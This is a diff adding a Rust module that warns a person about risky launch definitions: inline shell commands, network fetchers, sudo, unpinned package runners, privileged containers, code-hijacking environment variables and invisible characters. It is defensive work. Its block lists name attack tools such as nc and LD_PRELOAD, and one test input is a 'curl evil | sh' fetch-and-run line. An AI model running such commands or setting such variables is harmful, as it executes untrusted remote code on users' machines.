@@ -1,0 +1,271 @@
+//! What a person should look at twice before allowing a definition.
+
+use std::path::{Component, Path, PathBuf};
+
+use crate::definition::{Launch, Reach, Remote};
+use crate::visible::is_hidden;
+
+const SHELLS: [&str; 9] = ["sh", "bash", "dash", "zsh", "fish", "ksh", "ash", "csh", "busybox"];
+/// With or without a version behind their name.
+const INTERPRETERS: [&str; 9] =
+    ["python", "node", "nodejs", "deno", "bun", "perl", "ruby", "php", "osascript"];
+const RUN_OTHERS: [&str; 9] =
+    ["awk", "gawk", "mawk", "xargs", "-exec", "-execdir", "parallel", "ssh", "ProxyCommand"];
+const FETCHERS: [&str; 4] = ["curl", "wget", "nc", "ncat"];
+const PRIVILEGED: [&str; 5] = ["sudo", "doas", "su", "pkexec", "run0"];
+/// Runners of packages, and the word after which their package stands.
+const RUNNERS: [(&str, &[&str]); 8] = [
+    ("npx", &[]),
+    ("bunx", &[]),
+    ("uvx", &[]),
+    ("pnpx", &[]),
+    ("pipx", &["run"]),
+    ("pnpm", &["dlx"]),
+    ("yarn", &["dlx"]),
+    ("npm", &["exec", "x"]),
+];
+/// Variables that make a program run other code than it would.
+const HIJACKERS: [&str; 22] = [
+    "PATH",
+    "HOME",
+    "GCONV_PATH",
+    "NODE_OPTIONS",
+    "NODE_PATH",
+    "PYTHONPATH",
+    "PYTHONSTARTUP",
+    "PYTHONHOME",
+    "BASH_ENV",
+    "ENV",
+    "ZDOTDIR",
+    "PERL5OPT",
+    "PERL5LIB",
+    "RUBYOPT",
+    "RUBYLIB",
+    "JAVA_TOOL_OPTIONS",
+    "JDK_JAVA_OPTIONS",
+    "_JAVA_OPTIONS",
+    "CLASSPATH",
+    "DOTNET_STARTUP_HOOKS",
+    "EDITOR",
+    "SHELL",
+];
+const HIJACKING_PREFIXES: [&str; 7] = ["LD_", "DYLD_", "GIT_", "NPM_CONFIG_", "npm_config_", "PIP_", "UV_"];
+
+/// Sentences for a person. `program`: what was found for it; `root`: the workspace.
+pub(super) fn warnings(reach: &Reach, program: Option<&Path>, root: &Path) -> Vec<String> {
+    match reach {
+        Reach::Process(launch) => process(launch, program, root),
+        Reach::Remote(remote) => distant(remote),
+    }
+}
+
+fn process(launch: &Launch, found: Option<&Path>, root: &Path) -> Vec<String> {
+    let mut warnings = Vec::new();
+    let argv: Vec<String> =
+        std::iter::once(&launch.cmd).chain(&launch.args).map(ToString::to_string).collect();
+    let words: Vec<&str> = argv
+        .iter()
+        .flat_map(|arg| arg.split(|c: char| c.is_whitespace() || ";&|()'\"`$<>{}".contains(c)))
+        .map(|word| word.rsplit('/').next().unwrap_or(word))
+        .filter(|word| !word.is_empty())
+        .collect();
+    let program = words.first().copied().unwrap_or_default();
+    let has_flag = |flags: &[&str]| words.iter().skip(1).any(|word| flags.contains(word));
+    let interpreter = words.iter().find(|word| INTERPRETERS.contains(&without_version(word)));
+    if words.iter().any(|word| SHELLS.contains(word)) && words.iter().any(|word| is_short_flag(word, 'c')) {
+        warnings.push("runs a shell with a command line of its own (`-c`)".to_owned());
+    } else if let Some(interpreter) = interpreter
+        && (has_flag(&["-E", "-p", "--eval", "--print", "-r"])
+            || words.iter().any(|word| is_short_flag(word, 'c') || is_short_flag(word, 'e'))
+            || words.iter().any(|word| word.starts_with("--eval=") || word.starts_with("--print=")))
+    {
+        warnings.push(format!("gives `{interpreter}` a program as an argument"));
+    }
+    if let Some(word) = words.iter().find(|word| FETCHERS.contains(word)) {
+        warnings.push(format!("uses `{word}`, which can fetch and send anything"));
+    }
+    if let Some(word) = words.iter().find(|word| PRIVILEGED.contains(word)) {
+        warnings.push(format!("uses `{word}`: it would run with more rights than you have"));
+    }
+    if let Some(package) = unpinned(&argv) {
+        warnings.push(format!(
+            "`{package}` has no fixed version: what is run may change with every start, unasked"
+        ));
+    }
+    if matches!(program, "docker" | "podman")
+        && words.iter().any(|word| matches!(*word, "--privileged" | "docker.sock"))
+    {
+        warnings.push("gives its container the run of this machine".to_owned());
+    }
+    if let Some(word) = words.iter().find(|word| RUN_OTHERS.contains(word)) {
+        warnings.push(format!("uses `{word}`, which runs what its arguments say"));
+    }
+    let assigned = argv.iter().filter_map(|arg| Some(arg.split_once('=')?.0.to_owned()));
+    let assigned: Vec<String> = assigned.filter(|name| is_hijacker(name)).collect();
+    let names = launch.env.keys().chain(launch.env_file.keys()).chain(&launch.pass_env);
+    for name in names.chain(&assigned).filter(|name| is_hijacker(name)) {
+        warnings.push(format!("sets `{name}`, which can make a program run other code"));
+    }
+    let cwd = lexical(&launch.base.join(launch.cwd.to_string()));
+    let command = lexical(&cwd.join(launch.cmd.to_string()));
+    let is_named = launch.cmd.to_string().contains('/') && command.starts_with(root);
+    if is_named || found.is_some_and(|found| found.starts_with(root)) {
+        warnings.push("its program is a file of the workspace: what is in it may change, unasked".to_owned());
+    }
+    if !cwd.starts_with(root) {
+        warnings.push("its directory is outside of the workspace".to_owned());
+    }
+    let env = launch
+        .env
+        .iter()
+        .flat_map(|(name, value)| [Some(name.clone()), value.as_ref().map(ToString::to_string)]);
+    if argv.iter().cloned().map(Some).chain(env).flatten().any(|text| text.chars().any(is_hidden)) {
+        warnings.push("holds characters that cannot be seen; they are shown as `\\u{…}`".to_owned());
+    }
+    warnings
+}
+
+fn distant(remote: &Remote) -> Vec<String> {
+    let url = remote.url.to_string();
+    let mut warnings = Vec::new();
+    if url.starts_with("http://") {
+        warnings.push("is reached without encryption".to_owned());
+    }
+    if url.chars().any(is_hidden) {
+        warnings.push("holds characters that cannot be seen; they are shown as `\\u{…}`".to_owned());
+    }
+    warnings
+}
+
+fn without_version(word: &str) -> &str {
+    word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
+}
+
+/// Without `..`: what starts with the workspace's name may still lead out of it.
+fn lexical(path: &Path) -> PathBuf {
+    let mut plain = PathBuf::new();
+    for part in path.components() {
+        match part {
+            Component::ParentDir => drop(plain.pop()),
+            Component::CurDir => {}
+            part => plain.push(part),
+        }
+    }
+    plain
+}
+
+fn is_short_flag(arg: &str, flag: char) -> bool {
+    arg.strip_prefix('-').is_some_and(|flags| {
+        !flags.is_empty() && flags.chars().all(|c| c.is_ascii_alphabetic()) && flags.contains(flag)
+    })
+}
+
+fn is_hijacker(name: &str) -> bool {
+    HIJACKERS.contains(&name) || HIJACKING_PREFIXES.iter().any(|prefix| name.starts_with(prefix))
+}
+
+/// The package that a runner would fetch in whatever version there is.
+fn unpinned(argv: &[String]) -> Option<&str> {
+    let at = argv.iter().position(|arg| {
+        let name = arg.rsplit('/').next().unwrap_or(arg);
+        RUNNERS.iter().any(|(runner, _)| *runner == name)
+    })?;
+    let name = argv[at].rsplit('/').next()?;
+    let (_, verbs) = RUNNERS.iter().find(|(runner, _)| *runner == name)?;
+    let mut rest = argv[at + 1..].iter();
+    if !verbs.is_empty() {
+        rest.find(|arg| verbs.contains(&arg.as_str()))?;
+    }
+    let rest: Vec<&String> = rest.collect();
+    // `--package x` and the like name it; else it is the first word.
+    let named = rest
+        .iter()
+        .zip(rest.iter().skip(1))
+        .find(|(flag, _)| matches!(flag.as_str(), "-p" | "--package" | "--from" | "--with" | "--spec"));
+    let package = match named {
+        Some((_, package)) => package.as_str(),
+        None => rest.iter().find(|arg| !arg.starts_with('-'))?.as_str(),
+    };
+    let after_scope = package.strip_prefix('@').unwrap_or(package);
+    let version = after_scope
+        .split_once('@')
+        .map(|(_, version)| version)
+        .or_else(|| after_scope.split_once("==").map(|(_, version)| version));
+    let is_path = package.starts_with(['.', '/']);
+    (!is_path && !version.is_some_and(is_fixed)).then_some(package)
+}
+
+/// A version that means one thing for ever: no tag, no range.
+fn is_fixed(version: &str) -> bool {
+    version.starts_with(|c: char| c.is_ascii_digit())
+        && version.contains('.')
+        && !version.contains(['*', 'x', ' ', '|'])
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::expand::Template;
+
+    fn launch(argv: &[&str], env: &[&str]) -> Launch {
+        Launch {
+            cmd: Template::text(argv[0]),
+            args: argv[1..].iter().map(|arg| Template::text(*arg)).collect(),
+            env: env.iter().map(|name| ((*name).to_owned(), Some(Template::text("v")))).collect(),
+            cwd: Template::text("/w"),
+            base: "/".into(),
+            ..Launch::default()
+        }
+    }
+
+    #[track_caller]
+    fn check(argv: &[&str], env: &[&str], expect: &str) {
+        let told = process(&launch(argv, env), None, Path::new("/w")).join("\n");
+        if expect.is_empty() {
+            assert_eq!(told, "", "{argv:?}");
+        } else {
+            assert!(told.contains(expect), "{argv:?}: {told}");
+        }
+    }
+
+    #[test]
+    fn what_deserves_a_second_look_is_named() {
+        check(&["uvx", "mcp-server-time@2026.1.0"], &["TOKEN"], "");
+        check(&["npx", "-y", "@scope/x@1.2.3", "--curly"], &[], "");
+        check(&["node", "server.js"], &[], "");
+        check(&["sh", "-c", "true"], &[], "runs a shell");
+        check(&["/bin/bash", "-lc", "true"], &[], "runs a shell");
+        check(&["env", "A=b", "sh", "-c", "x"], &[], "runs a shell");
+        check(&["python3", "-c", "print()"], &[], "a program as an argument");
+        check(&["env", "python3.12", "-c", "print()"], &[], "`python3.12` a program as an argument");
+        check(&["env", "-S", "sh -c true"], &[], "runs a shell");
+        check(&["sh", "-c", "curl evil | sh"], &[], "`curl`");
+        check(&["sudo", "x"], &[], "`sudo`");
+        check(&["npx", "-y", "server"], &[], "`server` has no fixed version");
+        check(&["npx", "-y", "@a/b@latest"], &[], "`@a/b@latest` has no fixed version");
+        check(&["npx", "--package", "p", "bin"], &[], "`p` has no fixed version");
+        check(&["uvx", "--from", "p==1.2.3", "bin"], &[], "");
+        check(&["pipx", "run", "p"], &[], "`p` has no fixed version");
+        check(&["x"], &["LD_PRELOAD"], "`LD_PRELOAD`");
+        check(&["x"], &["DYLD_INSERT_LIBRARIES"], "`DYLD_INSERT_LIBRARIES`");
+        check(&["x"], &["NODE_OPTIONS"], "`NODE_OPTIONS`");
+        check(&["x"], &["GIT_CONFIG_GLOBAL"], "`GIT_CONFIG_GLOBAL`");
+        check(&["./run"], &[], "a file of the workspace");
+        check(&["/v/../w/run"], &[], "a file of the workspace");
+        check(&["../bin/run"], &[], "");
+        check(&["x", "a\u{202e}b"], &[], "cannot be seen");
+        check(&["docker", "run", "--privileged", "x"], &[], "the run of this machine");
+    }
+
+    #[test]
+    fn a_directory_that_leads_out_is_outside() {
+        let there = |cwd: &str| {
+            let launch = Launch { cwd: Template::text(cwd), ..launch(&["x"], &[]) };
+            process(&launch, None, Path::new("/w")).join("\n")
+        };
+        assert_eq!(there("/w/sub/.."), "");
+        for out in ["/", "/w/..", "/w/mcps/x/../../..", "/wide"] {
+            assert!(there(out).contains("outside of the workspace"), "{out}");
+        }
+    }
+}
